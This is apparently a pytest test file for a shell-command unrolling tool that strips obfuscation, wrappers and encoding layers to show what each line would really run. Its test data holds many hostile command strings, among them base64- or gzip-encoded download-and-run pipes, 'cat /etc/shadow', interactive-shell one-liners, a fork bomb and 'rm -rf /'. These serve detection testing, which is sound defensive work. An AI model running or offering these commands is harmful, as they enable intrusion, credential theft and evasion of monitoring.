"""What each line would run: one row per line, ``program args`` per command, wrappers before ``>``."""

from __future__ import annotations

import base64
import gzip

import pytest

from decnet.shell import SimpleCommand, unroll


def seen(command: SimpleCommand) -> str:
    wrappers = "".join(f"{name}>" for name in command.wrappers)
    return f"{wrappers}{command.program} {command.args}".rstrip()


def view(text: str) -> list[str]:
    return [seen(command) for command in unroll(text).commands]


PLAIN = [
    ("wget host/x", ["wget host/x"]),
    ("/usr/bin/python3.11 -V", ["python -V"]),
    ("-bash", ["bash"]),
    ("  ls   -la  ", ["ls -la"]),
    ("a;b&&c||d&e|f", ["a", "b", "c", "d", "e", "f"]),
    ("ls\nid\n\nw", ["ls", "id", "w"]),
    ("ls \\\n -la", ["ls -la"]),
    ("! id", ["id"]),
    ("uname -a; # rm -rf /", ["uname -a"]),
    ("echo a#b", ["echo a#b"]),
    ("A=1 B=2 id", ["id"]),
    ("cat < /etc/passwd > /tmp/x 2>&1", ["cat"]),
    (">/dev/null id", ["id"]),
]

UNTOUCHED = [
    ('echo "cat /etc/shadow"', ["echo cat /etc/shadow"]),
    ("# rm -rf /", []),
    ("grep wget notes.txt", ["grep wget notes.txt"]),
    ("cat <<EOF\nrm -rf /\nEOF\nid", ["cat", "id"]),
    ("echo 'a;b|c && $(id)'", ["echo a;b|c && $(id)"]),
    ("command -v wget", ["command -v wget"]),
    ("", []),
    ("   ", []),
    (";;", []),
]

OBFUSCATED = [
    ('cu""rl -s h|s$@h', ["curl -s h", "sh"]),
    ('w"g"et h', ["wget h"]),
    ("c\\at /etc/passwd", ["cat /etc/passwd"]),
    ("$'\\x63at' /etc/passwd", ["cat /etc/passwd"]),
    ("$'\\143\\141\\164' x", ["cat x"]),
    ("cat${IFS}/etc/passwd", ["cat /etc/passwd"]),
    ("cat$IFS/etc/passwd", ["cat /etc/passwd"]),
    ("{wget,http://x}", ["wget http://x"]),
    ("who$9ami", ["whoami"]),
    ("wh$*oami", ["whoami"]),
    ("$(echo cat) /etc/passwd", ["echo cat", "cat /etc/passwd"]),
    ("`echo id`", ["echo id", "id"]),
    ('$(echo -e "\\x77\\x67\\x65\\x74") h', ["echo -e \\x77\\x67\\x65\\x74", "wget h"]),
    ("$(printf '\\167\\147et') h", ["printf \\167\\147et", "wget h"]),
    ("x=wget; $x h", ["", "wget h"]),
    ("a=w;b=get;${a}${b} h", ["", "", "wget h"]),
    ("x=xwgetx; ${x:1:4} h", ["", "wget h"]),
    ("x=w_get; ${x/_/} h", ["", "wget h"]),
    ("x=wget.old; ${x%.old} h", ["", "wget h"]),
    ("x=WGET; ${x,,} h", ["", "wget h"]),
    ("${none:-wget} h", ["wget h"]),
    ("x='wget h'; $x", ["", "wget h"]),
    ("a=(w get); ${a[0]}${a[1]} h", ["", "wget h"]),
    ("${PATH:0:1}bin${PATH:0:1}ls", ["ls"]),
    ("set -- id; $1", ["set -- id", "id"]),
    ("w\0get h", ["wget h"]),
    ("IFS=,; x=wget,h; $x", ["", "", "wget h"]),
    ("x='curl -s h | sh'; $x", ["", "curl -s h", "sh"]),
]

WRAPPED = [
    ("sudo -l", ["sudo -l"]),
    ("sudo su", ["sudo su", "sudo>su"]),
    (
        "sudo -u root sh -c 'cat /etc/shadow'",
        [
            "sudo -u root sh -c cat /etc/shadow",
            "sudo>sh -c cat /etc/shadow",
            "sudo>sh>cat /etc/shadow",
        ],
    ),
    ("/bin/busybox wget h", ["busybox wget h", "busybox>wget h"]),
    ("/proc/self/exe wget h", ["busybox wget h", "busybox>wget h"]),
    ("env -i A=b wget h", ["env -i A=b wget h", "env>wget h"]),
    ("timeout -s KILL 5s wget h", ["timeout -s KILL 5s wget h", "timeout>wget h"]),
    ("nice -n 5 id", ["nice -n 5 id", "nice>id"]),
    ("xargs -n 1 wget", ["xargs -n 1 wget", "xargs>wget"]),
    ("echo h/x | xargs wget -q", ["echo h/x", "xargs wget -q", "xargs>wget -q h/x"]),
    ("nohup ./a &", ["nohup ./a", "nohup>a"]),
    ("find / -name x -exec rm -f {} \\;", ["find / -name x -exec rm -f {} ;", "find>rm -f {}"]),
    ("find . -exec chmod 4755 {} +", ["find . -exec chmod 4755 {} +", "find>chmod 4755 {}"]),
    ("su -c 'id; w' bob", ["su -c id; w bob", "su>id", "su>w"]),
    ("su - root -c id", ["su - root -c id", "su>id"]),
    ("ssh -p 22 r@h 'id; w'", ["ssh -p 22 r@h id; w", "ssh>id", "ssh>w"]),
    ("ssh r@h", ["ssh r@h"]),
    ("chroot /mnt sh", ["chroot /mnt sh", "chroot>sh"]),
    ("docker exec -it -u 0 c sh -c id", ["docker exec -it -u 0 c sh -c id", "docker>sh -c id", "docker>sh>id"]),
    ("docker ps", ["docker ps"]),
    ("kubectl exec -n x pod -- cat /a", ["kubectl exec -n x pod -- cat /a", "kubectl>cat /a"]),
    ("watch -n 1 'id; w'", ["watch -n 1 id; w", "watch>id", "watch>w"]),
    ("script -qc id /dev/null", ["script -qc id /dev/null", "script>id"]),
    ("flock -n /tmp/l wget h", ["flock -n /tmp/l wget h", "flock>wget h"]),
    ("flock /tmp/l -c 'wget h'", ["flock /tmp/l -c wget h", "flock>wget h"]),
    ("stdbuf -oL ionice -c 3 id", ["stdbuf -oL ionice -c 3 id", "stdbuf>ionice -c 3 id", "stdbuf>ionice>id"]),
    ("eval 'x=1; id'", ["eval x=1; id", "eval>", "eval>id"]),
    ("exec -a x id", ["exec -a x id", "exec>id"]),
    ("trap 'rm x' EXIT", ["trap rm x EXIT", "trap>rm x"]),
    ("bash -lc 'id' a b", ["bash -lc id a b", "bash>id a b"]),
    ("sh -c 'echo $0 $1' a b", ["sh -c echo $0 $1 a b", "sh>echo a b"]),
    ("/bin/sh -c LANG=C; cat /etc/passwd", ["sh -c LANG=C", "sh>", "cat /etc/passwd"]),
    ("sh -c cat /etc/passwd", ["sh -c cat /etc/passwd", "sh>cat /etc/passwd"]),
    ("bash -i", ["bash -i"]),
    ("time -p id", ["time -p id", "time>id"]),
    ("perl -e 'system(\"id; w\")'", ['perl -e system("id; w")', "perl>id", "perl>w"]),
    ("python3 -c 'import os; os.system(\"id\")'", ['python -c import os; os.system("id")', "python>id"]),
    (
        'python -c \'import subprocess as s; s.call(["/bin/sh","-i"])\'',
        [
            'python -c import subprocess as s; s.call(["/bin/sh","-i"])',
            "python>sh -i",
        ],
    ),
    (
        "perl -MA::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJpZCIp\"))'",
        [
            'perl -MA::Base64 -e eval(decode_base64("c3lzdGVtKCJpZCIp"))',
            "perl>id",
        ],
    ),
    ("python3 <<EOF\nimport os; os.system('id')\nEOF", ["python", "python>id"]),
    ("php -r 'exec(\"id\");'", ['php -r exec("id");', "php>id"]),
    ("awk 'BEGIN {system(\"/bin/sh\")}'", ['awk BEGIN {system("/bin/sh")}', "awk>sh"]),
    ("alias l='wget h'; l x", ["alias l=wget h", "l x", "wget h"]),
]

FLOW = [
    ("cd /tmp;(wget a||curl -O a)&&chmod +x a&&./a", ["cd /tmp", "wget a", "curl -O a", "chmod +x a", "a"]),
    ("for i in 1 2; do nc -z 10.0.0.$i 22; done", ["nc -z 10.0.0.1 22"]),
    ("for i in $(seq 1 9); do ping 10.0.0.$i; done", ["seq 1 9", "ping 10.0.0.1"]),
    ("for i in {1..9}\ndo\n ping 10.0.0.$i\ndone", ["ping 10.0.0.1"]),
    ("for ((i=0;i<9;i++)); do id; done", ["id"]),
    ("if id; then w; elif x; then y; else z; fi", ["id", "w", "x", "y", "z"]),
    ("while :; do wget h; sleep 1; done &", [":", "wget h", "sleep 1"]),
    ("until id; do w; done", ["id", "w"]),
    ("case $(uname) in L*) id;; (x|y) w;; *) who\nesac", ["uname", "id", "w", "who"]),
    ("f() { wget $1; }; f h/x", ["wget $1", "f h/x", "wget h/x"]),
    ("function f { id; }", ["id"]),
    (":(){ :|:& };:", [":", ":", ":", ":", ":"]),
    ("{ id; w; } > /tmp/o", ["id", "w"]),
    ("[[ -n $(id) && x < y ]] && w", ["id", "[[ -n $(id) && x < y ]]", "w"]),
    ("if [ $(id -u) -eq 0 ]; then w; fi", ["id -u", "[ $(id -u) -eq 0 ]", "w"]),
    ("diff <(id) <(w)", ["id", "w", "diff <(id) <(w)"]),
    ("((x=1)); id", ["((x=1))", "id"]),
    ("a | b || { c; d; }", ["a", "b", "c", "d"]),
    ('echo "$(id; w)"', ["id", "w", "echo $(id; w)"]),
]

BROKEN = [
    ('echo "it; wget h | sh', ["echo it", "wget h", "sh"]),
    ("if id; then", ["id"]),
    ("then wget h", ["wget h"]),
    ("done; wget h", ["wget h"]),
    ("(wget h", ["wget h"]),
    ("wget h)", ["wget h"]),
    ("fi; (id) | w", ["id", "w"]),
    ("x=$(wget h", ["wget h", ""]),
    ("for i in a b; do", []),
    ("| wget h", ["wget h"]),
    ("&& id &&", ["id"]),
    ("cat ${x", ["cat ${x"]),
    ("case x in", []),
    ("case $(id) in", ["id"]),
]

WINDOWS = [
    ('cmd /c "dir C:\\x & whoami"', ["cmd /c dir C:\\x & whoami", "cmd>dir C:\\x", "cmd>whoami"]),
    ("C:\\Windows\\System32\\cmd.exe /c ver", ["cmd /c ver", "cmd>ver"]),
    ("powershell -nop -enc dwBoAG8AYQBtAGkA", ["powershell -nop -enc dwBoAG8AYQBtAGkA", "powershell>whoami"]),
    ("powershell -c iex x; id", ["powershell -c iex x; id", "powershell>iex x", "powershell>id"]),
]


@pytest.mark.parametrize(("text", "expected"), PLAIN + UNTOUCHED)
def test_plain_text_is_read_as_typed(text: str, expected: list[str]) -> None:
    assert view(text) == expected


@pytest.mark.parametrize(("text", "expected"), OBFUSCATED)
def test_disguise_is_taken_off(text: str, expected: list[str]) -> None:
    assert view(text) == expected


@pytest.mark.parametrize(("text", "expected"), WRAPPED)
def test_wrapper_and_what_it_runs_are_both_seen(text: str, expected: list[str]) -> None:
    assert view(text) == expected


@pytest.mark.parametrize(("text", "expected"), FLOW)
def test_control_flow_is_followed_once(text: str, expected: list[str]) -> None:
    result = unroll(text)
    assert ([seen(command) for command in result.commands], result.is_broken) == (expected, False)


@pytest.mark.parametrize(("text", "expected"), BROKEN)
def test_broken_text_is_split_not_dropped(text: str, expected: list[str]) -> None:
    assert view(text) == expected


@pytest.mark.parametrize(("text", "expected"), WINDOWS)
def test_windows_lines_keep_a_minimal_view(text: str, expected: list[str]) -> None:
    assert view(text) == expected


INNER = "wget http://10.0.0.1/x"
ENCODED = base64.b64encode(INNER.encode()).decode()
PACKED = base64.b64encode(gzip.compress(INNER.encode(), mtime=0)).decode()
HEX = INNER.encode().hex()
ROTATED = INNER.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
LAYERS = [
    (f"echo {ENCODED} | base64 -d | sh", "sh", "base64"),
    (f"echo {ENCODED}|base64 --decode|sudo bash -s", "sudo>bash", "base64"),
    (f"base64 -d <<< {ENCODED} | sh", "sh", "base64"),
    (f"bash <(echo {ENCODED} | base64 -d)", "bash", "base64"),
    (f'bash -c "$(echo {ENCODED} | base64 -d)"', "bash", "base64"),
    (f"eval `echo {ENCODED} | base64 -d`", "eval", "base64"),
    (f"sh <<< $(echo {ENCODED} | base64 -d)", "sh", "base64"),
    (f"x={ENCODED}; echo $x | base64 -d | sh", "sh", "base64"),
    (f"echo {ENCODED} | openssl base64 -d | sh", "sh", "base64"),
    (f"echo {ENCODED} | openssl enc -d -a | sh", "sh", "base64"),
    (f"echo {ENCODED} | python3 -m base64 -d | sh", "sh", "base64"),
    (f"echo {PACKED} | base64 -d | gunzip | sh", "sh", "base64 gzip"),
    (f"echo {PACKED} | base64 -d | zcat | busybox sh", "busybox>sh", "base64 gzip"),
    (f"echo {HEX} | xxd -r -p | sh", "sh", "hex"),
    (f"echo '{INNER[::-1]}' | rev | sh", "sh", "reverse"),
    (f"echo '{ROTATED}' | tr a-z n-za-m | sh", "sh", "translate"),
    (f"echo '{INNER.replace('w', '@')}' | sed 's/@/w/g' | sh", "sh", "translate"),
    ("printf '\\x77get http://10.0.0.1/x' | sh", "sh", "hex"),
    (f"cat <<EOF | sh\n{INNER}\nEOF", "sh", ""),
    (f"bash <<'EOF'\n{INNER}\nEOF", "bash", ""),
    (f"(echo {ENCODED}) | (base64 -d) | sh", "sh", "base64"),
    (f"echo {ENCODED} | base64 -d | tee /tmp/a | sh", "sh", "base64"),
]


@pytest.mark.parametrize(("text", "wrappers", "kinds"), LAYERS)
def test_layer_that_feeds_an_interpreter_is_decoded(text: str, wrappers: str, kinds: str) -> None:
    inner = unroll(text).commands[-1]
    assert f"{inner.program} {inner.args}" == INNER
    assert ">".join(inner.wrappers) == wrappers
    assert " ".join(step.kind for step in inner.decoded) == kinds


def test_decoder_that_feeds_a_file_shows_what_it_wrote() -> None:
    decoder = unroll(f"echo {ENCODED} | base64 -d > /tmp/x").commands[-1]
    assert decoder.program == "base64"
    assert decoder.decoded[0].text == INNER
    assert decoder.redirects[0].target == "/tmp/x"


def test_python_that_runs_encoded_code_shows_layer_and_command() -> None:
    code = base64.b64encode(b"import os;os.system('wget h')").decode()
    outer, inner = unroll(f"python -c \"exec(__import__('base64').b64decode('{code}'))\"").commands
    assert outer.decoded[0].kind == "base64"
    assert seen(inner) == "python>wget h"


def test_escapes_written_to_a_file_are_evidence() -> None:
    command = unroll("echo -ne '\\x7f\\x45\\x4c\\x46' >> /tmp/x").commands[0]
    assert command.decoded[0].text == "\x7fELF"
